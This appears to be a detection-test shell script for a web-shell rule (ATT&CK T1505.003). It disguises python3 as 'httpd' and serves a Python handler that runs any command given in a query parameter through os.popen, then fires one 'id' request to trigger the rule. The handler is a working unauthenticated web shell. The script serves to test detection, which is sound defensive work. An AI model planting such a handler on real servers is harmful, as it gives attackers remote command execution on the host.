#!/bin/sh
# technique: T1505.003 Server Software Component: Web Shell
# rule: web_server_starts_shell
# A web server, a copy of Python under the name of one, runs the command that a request brings.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
mkdir -p /srv/www
cp "$(readlink -f "$(command -v python3)")" /srv/www/httpd
cat > /srv/www/page.py <<'END'
import http.server, os, threading, urllib.parse, urllib.request
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        command = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)["c"][0]
        self.send_response(200)
        self.end_headers()
        self.wfile.write(os.popen(command).read().encode())
    def log_message(self, *words):
        pass
server = http.server.HTTPServer(("192.0.2.1", 8082), Page)
threading.Thread(target=server.handle_request, daemon=True).start()
print(urllib.request.urlopen("http:" "//192.0.2.1:8082/page?c=id%3Bsleep+0.2", timeout=2).read())
END
timeout 4 /srv/www/httpd /srv/www/page.py || true
exit 0
